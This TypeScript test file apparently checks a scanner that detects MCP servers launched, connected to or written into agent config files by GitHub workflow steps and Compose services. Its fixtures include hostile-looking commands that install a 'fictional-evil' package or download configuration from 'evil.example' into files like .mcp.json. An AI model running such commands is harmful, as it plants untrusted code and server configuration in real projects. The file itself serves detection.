/*
 * Servers that the commands of a workflow's step start, connect to or install, by the shape of their words;
 * client files of the checkout that they write; and Docker's gateway as a service of Compose.
 */
import { type Case, type FileContent, type Files, good, mcp, playCases } from './cases.ts';

const evil = 'fictional-evil';
const address = 'https://evil.example/x';
const json = (value: unknown): FileContent => ({ json: value });

const step = (run: string, more = ''): Files => ({
  '.github/workflows/x.yml': `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          ${run.replaceAll('\n', '\n          ')}\n${more}`,
});
const says = (
  run: string,
  expected: Case['expected'],
  files: Files = {},
  base: Files = {},
): Case => ({ name: run, base, head: { ...step(run), ...files }, expected });

const fetched = 'added: unlisted, unpinned';
const connected = 'added: unlisted';
const unknown = 'added: unidentified';
/** A program that nobody knows, and the address that it is given. */
const unknownWithAddress = 'added: unidentified, unlisted';
const entry = JSON.stringify({ command: 'npx', args: ['-y', evil] });

const shapes: readonly Case[] = [
  // A command line behind a long option.
  ...[
    `goose run --with-extension 'npx -y ${evil}' -t x`,
    `goose session --with-extension="A=b uvx ${evil}"`,
    `acme --cmd 'bunx ${evil}'`,
    `if true; then acme --start "sh -c 'npx -y ${evil}'"; fi`,
    `acme \\\n  --with 'npx -y ${evil}' \\\n  --other`,
  ].map((run) => says(run, fetched)),
  // An address behind one whose name or path says so.
  ...[
    `goose run --with-streamable-http-extension ${address}`,
    `acme --with-remote-extension=${address}`,
    `acme --mcp-url "${address}"`,
    'acme --connect https://evil.example/mcp',
    'acme --target=https://evil.example/v1/sse?x=1',
  ].map((run) => says(run, connected)),
  says('scan --sse-url http://localhost:8080/sse', 'added: local-code'),
  // JSON of one entry, or of a map of them.
  says(`amp --mcp-config '{"x":${entry}}' -x hi`, fetched),
  says(`acme --servers '${entry}'`, fetched),
  says(`acme --anything '${entry}'`, fetched),
  says(`amp --mcp-config '{\n  "x": ${entry}\n}'`, fetched),
  says(`openclaw mcp set x '${entry}'`, fetched),
  says(`acme mcp set x '{"url":"${address}"}'`, connected),
  says('acme mcp set x {"command":"npx"}', 'nothing: unparsable-file'),
  // What bridges, testers, installers and gateways start.
  ...[
    `npx -y supergateway --stdio "npx -y ${evil}"`,
    `uvx mcpo --port 8000 -- uvx ${evil} &`,
    `A=b uvx mcp-proxy --port 80 -- npx -y ${evil}`,
    `npx @modelcontextprotocol/inspector --cli npx -y ${evil}`,
    `npx -y add-mcp@latest ${evil}`,
    `npx add-mcp "npx -y ${evil}"`,
    `thv run npx://${evil}`,
    `thv run --name x uvx://${evil}@latest`,
    'thv run fetch',
    'thv run registry.example/evil/x:1',
    'docker mcp gateway run --servers=evil,other',
    'docker run -i docker/mcp-gateway --servers=evil',
  ].map((run) => says(run, fetched)),
  ...[
    `npx -y mcp-remote ${address}`,
    `npx -y @modelcontextprotocol/inspector --cli ${address}`,
    `npx add-mcp ${address}`,
    `thv run ${address}`,
    `bash -c "npx -y mcp-remote ${address}"`,
    `pnpm dlx mcp-remote ${address}`,
  ].map((run) => says(run, connected)),
  says(`supergateway --stdio "npx -y ${evil}"`, 'added: unidentified, unlisted, unpinned'),
  ...[`sudo mcp-proxy ${address}`, `python -m mcp_proxy ${address}`].map((run) =>
    says(run, unknownWithAddress),
  ),
  ...[
    'docker mcp gateway run --catalog ./x.yaml',
    'thv run --from-config x.json',
    'npx -y mcp-remote "$URL"',
  ].map((run) => says(run, unknown)),
  {
    name: 'an input of an action',
    base: {},
    head: {
      '.github/workflows/x.yml': `on: push\njobs:\n  a:\n    steps:\n      - uses: a/agent@v1\n        with:\n          args: --with-extension "npx -y ${evil}"\n`,
    },
    expected: fetched,
  },
];

const servers = json({ mcpServers: { files: { command: 'npx', args: ['-y', evil] } } });
const bare = json({ files: { command: 'npx', args: ['-y', evil] } });
const writes: readonly Case[] = [
  says('cp ci/x .cursor/mcp.json', fetched, {
    'ci/x': JSON.stringify({ mcpServers: { a: JSON.parse(entry) } }),
  }),
  says('cp ci/x.json "$GITHUB_WORKSPACE/.mcp.json"', fetched, { 'ci/x.json': bare }),
  says('cd sub && mv ci/x.json .mcp.json', fetched, { 'sub/ci/x.json': bare }),
  says('cp ci/mcp.json .cursor/', fetched, { 'ci/mcp.json': servers }),
  says('cp -r ci/claude .claude', unknown, {
    'ci/claude/settings.json': json({ enabledPlugins: { 'a@b': true } }),
  }),
  ...[
    'mv $RUNNER_TEMP/x .mcp.json',
    'ln -s /tmp/x .vscode/mcp.json',
    'cp not/there.json .mcp.json',
    'curl -s https://evil.example/x > .mcp.json',
    'curl -s https://evil.example/x | sudo tee .mcp.json',
    'echo "$X" > .claude/settings.json',
    'python gen.py >> .codex/config.toml',
    'envsubst < a.tmpl > ./.mcp.json',
    "jq '.a = 1' .mcp.json > x && mv x .mcp.json",
    `sed -i '' -e 's/good/evil/' .mcp.json`,
    `yq -i '.a = 1' .mcp.json`,
    'dd if=/tmp/x of=.mcp.json',
    'rsync -a /tmp/x/ .cursor/',
    'cp -t .cursor /tmp/mcp.json',
    'tee .mcp.json <<< "$X"',
    'cat <<EOF > .mcp.json\n$X\nEOF',
    'curl -o sub/.mcp.json https://evil.example/x',
    'wget --output-document=.mcp.json https://evil.example/x',
    'python gen.py https://evil.example/x >> .codex/config.toml',
  ].map((run) => says(run, unknown)),
  ...['curl -s URL > .mcp.json', 'curl -o .mcp.json URL'].map((run): Case => {
    const [base, head] = ['a.example', 'evil.example'].map((host) =>
      step(run.replace('URL', `https://${host}/x`)),
    ) as [Files, Files];
    return { name: `an edit of ${run}`, base, head, expected: 'changed: unidentified' };
  }),
];

const gateway = (lines: string): Files => ({
  'compose.yaml': `services:\n  gateway:\n    ${lines.replaceAll('\n', '\n    ')}\n`,
});
const compose: readonly Case[] = [
  ...[
    'image: docker/mcp-gateway\ncommand: [--servers=evil, --transport=sse]',
    'image: docker/mcp-gateway:latest\ncommand:\n  - --servers\n  - evil',
    'image: x\ncommand: docker mcp gateway run --servers=evil',
  ].map((lines): Case => ({ name: lines, base: {}, head: gateway(lines), expected: fetched })),
  {
    name: 'another gateway (honest)',
    base: {},
    head: gateway('image: acme/api-gateway\ncommand: [--servers=a, --port=80]'),
    expected: 'nothing',
  },
];

const honest: readonly Case[] = [
  ...[
    'npx wrangler deploy --env production',
    'npx -y playwright install --with-deps chromium',
    'npx -y @modelcontextprotocol/inspector --version && npx mcpb pack',
    'pkill -f "npx serve"',
    'acme --base-url https://api.fictional.example --server-url https://sonar.fictional.example',
    `curl --data '{"url":"https://a.example","command":"x"}' https://api.fictional.example`,
    `gh api --field body='{"command":"x"}' repos/a/b`,
    'xvfb-run -- npx playwright test',
    'npx cross-env A=b npx wrangler deploy # mcp',
    'docker mcp gateway run --help',
    'echo "Run npx -y mcp-remote https://a.example"',
    'mcpo --version',
    'cp README.md docs/mcp.md',
    'cat > /tmp/mcp.json < x',
    'echo x > mcp.log 2>&1',
    `acme --message 'npx is what you start servers with, mcp or not'`,
  ].map((run) => says(run, 'nothing')),
  ...[
    'rm .mcp.json',
    'cat .mcp.json | jq .',
    'cp .mcp.json /tmp/x.json',
    'npx prettier --check .mcp.json',
    'grep -qi notes .mcp.json',
    'git add .mcp.json && git diff --exit-code .mcp.json',
    'cp .mcp.json ~/.claude.json',
    'if [ -f .mcp.json ]; then echo ".mcp.json is there"; fi',
  ].map((run) => says(run, 'unchanged', {}, mcp(good))),
  says('npx -y @modelcontextprotocol/inspector --cli node server.js', 'added: local-code', {
    'server.js': '',
  }),
  says('npx -y mcp-remote http://localhost:3000/mcp', 'added: local-code'),
];

const texts: readonly Case[] = [
  // A quote in a heredoc, or a comment, hides no command.
  says(
    `cat > a.md <<EOF\nIt doesn't matter\nEOF\nnpx -y mcp-remote ${address}\necho 'x'`,
    connected,
  ),
  says(`# It doesn't matter\nnpx -y mcp-remote ${address} # nor "this`, connected),
  says(`echo "a \\" b" && npx -y mcp-remote ${address}`, connected),
  says(`bash -c '\n  npx -y mcp-remote ${address}\n'`, connected),
  says(`amp --mcp-config '{\n${' '.repeat(2)}\n${'\n'.repeat(60)}"x": ${entry}\n}'`, fetched),
  says('true\n'.repeat(6000), 'nothing', {}),
  says(`acme --agent\n${'true\n'.repeat(6000)}`, 'nothing: unparsable-file', {}),
  // Variables of the workflow are filled in.
  {
    name: 'a port and a host of the workflow',
    base: {},
    head: {
      '.github/workflows/x.yml': `env: {PORT: 3000, HOST: evil.example}\non: push\njobs:\n  a:\n    steps:\n      - run: npx -y mcp-remote http://localhost:$PORT/mcp\n      - run: acme --mcp-url https://$HOST/x\n`,
    },
    expected: 'added: local-code, unlisted',
  },
];

const candidates: readonly Case[] = [
  // Fetched and not declared: a listed one counts as a candidate of a manifest does.
  says('npx -y @fictional-mcp/files@1.2.0', 'added: below-minimum'),
  says(`uvx context-server-${evil}`, 'nothing'),
  // A tool for servers that connects to one.
  says(`npx -y install-mcp ${address}`, connected.replace('unlisted', 'unlisted, unpinned')),
];

playCases([...texts, ...candidates, ...shapes, ...writes, ...compose, ...honest]);
